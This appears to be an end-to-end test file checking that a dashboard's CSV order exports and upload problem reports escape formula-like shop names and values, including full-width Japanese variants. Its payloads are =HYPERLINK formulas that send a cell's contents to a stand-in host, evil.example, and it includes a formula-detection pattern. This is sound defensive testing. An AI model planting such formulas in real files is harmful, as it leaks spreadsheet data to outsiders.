// Issue 31, item 5: CSV formula injection through names. A shop's id is a number, and the order
// export writes the shop's NAME for it, which a person typed on the main function's screens: a
// shop named `=HYPERLINK(...)` must reach the file as text (a leading apostrophe), whatever the
// field's type, in UTF-8 and in Shift_JIS, with the full-width `＝` Japanese Excel runs too; plain
// numbers stay numbers. The same for the problems report of an upload. Company 2 (the operator):
// its one shop is renamed through the sandbox's test control and named back at the end.
import iconv from "iconv-lite";
import Papa from "papaparse";
import { expect, sandboxUrl, SANDBOX_USERS, test } from "./fixtures";
import { OrdersPage } from "./pages/orders-page";
import { sandboxCall } from "./pages/sandbox-api";
import { UploadsPage } from "./pages/uploads-page";

test.use({ user: "operator" });

const LIVE = '=HYPERLINK("http://evil.example/?x="&C2,"Open")';
const FULL_WIDTH = '＝HYPERLINK("http://evil.example/?x="&C2,"開く")';
/** What a spreadsheet may run as a formula when a cell starts with it. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/** Renames the operator's company's shop `id` in the sandbox; answers the name it had. */
async function renameShop(id: string, name: string): Promise<string> {
  const res = await fetch(`${sandboxUrl}/__sandbox/masters/shop/${id}`, {
    method: "PUT",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ login_code: SANDBOX_USERS.operator.login, name }),
  });
  expect(res.status, "PUT /__sandbox/masters/shop").toBe(200);
  return ((await res.json()) as { previous_name: string }).previous_name;
}

test.describe("names that look like formulas", () => {
  test("a shop named like a formula is exported as text, in UTF-8 and in Shift_JIS; numbers stay numbers", async ({ page, baseURL }) => {
    test.setTimeout(120_000);
    const origin = new URL(baseURL!).origin;
    /**
     * The dashboard keeps a company's shop list for up to 10 minutes (lib/bff/server/choice-cache.ts):
     * it is asked again past the kept one, as a page showing the list as such asks, so the name the
     * sandbox now holds is the one the company's pages read.
     */
    const shopNameSeen = async (id: string) => {
      const res = await page.request.post(`${origin}/api/ne/api_v1_master_shop/search`, {
        headers: { origin, "x-backyard-fresh": "1" },
        // The fields the pages' shop list asks (name and abbreviation): the same kept answer.
        data: { fields: ["shop_id", "shop_name", "shop_abbreviated_name"], limit: 10_000 },
      });
      expect(res.status()).toBe(200);
      return ((await res.json()) as { rows: { shop_id: string; shop_name: string }[] }).rows.find((r) => r.shop_id === id)?.shop_name;
    };

    const slips = (await sandboxCall("operator", "/api_v1_receiveorder_base/search", { fields: "receive_order_id,receive_order_shop_id,receive_order_total_amount", limit: "3" })).data ?? [];
    const shopId = slips[0]?.receive_order_shop_id ?? "";
    const picked = slips.filter((s) => s.receive_order_shop_id === shopId);
    expect(picked.length).toBeGreaterThan(0);
    const ids = picked.map((s) => s.receive_order_id ?? "");
    const orders = new OrdersPage(page);

    /** The file's rows (by field name) of the picked slips, exported with names (the default) and field names in the header. */
    const exported = async (encoding: "utf8-bom" | "sjis") => {
      await orders.goto(`?f=receive_order_id.in:${ids.join(",")}`);
      expect(await orders.total()).toBe(ids.length);
      const { bytes } = await orders.exportCsv({ encoding, header: "names" });
      const text = encoding === "sjis" ? iconv.decode(bytes, "cp932") : bytes.subarray(3).toString("utf8");
      const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
      expect(parsed.errors).toEqual([]);
      const [header = [], ...rows] = parsed.data;
      return { text, rows: rows.map((cells) => Object.fromEntries(header.map((name, i) => [name, cells[i] ?? ""]))) };
    };

    const previous = await renameShop(shopId, LIVE);
    try {
      expect(await shopNameSeen(shopId)).toBe(LIVE);

      await test.step("UTF-8: the shop's name starts with an apostrophe, the numbers are as the API gave them", async () => {
        const { text, rows } = await exported("utf8-bom");
        expect(rows).toHaveLength(ids.length);
        for (const row of rows) {
          expect(row.receive_order_shop_id).toBe(`'${LIVE}`);
          const slip = picked.find((s) => s.receive_order_id === row.receive_order_id);
          expect(slip, `slip ${row.receive_order_id}`).toBeDefined();
          expect(row.receive_order_total_amount).toBe(slip?.receive_order_total_amount);
          for (const [field, cell] of Object.entries(row)) expect(cell, field).not.toMatch(FORMULA_START);
        }
        // As Excel reads the bytes: the quoted field holds the apostrophe first.
        expect(text).toContain(`"'${LIVE.replace(/"/g, '""')}"`);
      });

      await renameShop(shopId, FULL_WIDTH);
      expect(await shopNameSeen(shopId)).toBe(FULL_WIDTH);

      await test.step("Shift_JIS: the full-width ＝ gets the apostrophe too", async () => {
        const { rows } = await exported("sjis");
        expect(rows).toHaveLength(ids.length);
        for (const row of rows) {
          expect(row.receive_order_shop_id).toBe(`'${FULL_WIDTH}`);
          for (const [field, cell] of Object.entries(row)) expect(cell, field).not.toMatch(FORMULA_START);
        }
      });
    } finally {
      await renameShop(shopId, previous);
      expect(await shopNameSeen(shopId)).toBe(previous);
    }
  });

  test("the problems report of an upload writes formula-looking values and lines as text, full-width ones too", async ({ page }) => {
    test.setTimeout(120_000);
    const fileName = `formulas-${Date.now().toString(36)}.csv`;
    const lines = [
      "kyoten_mei,syohin_code,kasan_su,nyusyukko_riyu",
      `"${LIVE.replace(/"/g, '""')}",A-1,=1+2,e2e`,
      "基本拠点,A-2,＝1+2,e2e",
      "基本拠点,A-3,＠SUM(1),e2e",
      "＋SUM(1),A-4,－5,e2e",
    ];
    const buffer = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${lines.join("\r\n")}\r\n`, "utf8")]);
    const uploads = new UploadsPage(page);
    await uploads.goto();
    await uploads.drop("warehouse-stock", { name: fileName, mimeType: "text/csv", buffer });
    const card = uploads.card(fileName);
    await expect(card.downloadProblems).toBeVisible({ timeout: 60_000 });
    await expect(card.sendButton).toBeDisabled();

    const { text } = await card.downloadReport();
    const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const rows = parsed.data.slice(1);
    const kasan = (line: number) => rows.find((r) => r[0] === String(line) && r[1] === "kasan_su");
    expect(kasan(2)?.[2]).toBe("'=1+2");
    // The original line as it was read: it starts with the quote of its first field.
    expect(kasan(2)?.[4]).toBe(lines[1]);
    expect(kasan(3)?.[2]).toBe("'＝1+2");
    expect(kasan(4)?.[2]).toBe("'＠SUM(1)");
    expect(kasan(5)?.[2]).toBe("'－5");
    expect(kasan(5)?.[4]).toBe(`'${lines[4]}`);
    for (const row of rows) for (const cell of row) expect(cell, row.join(",")).not.toMatch(FORMULA_START);
  });
});
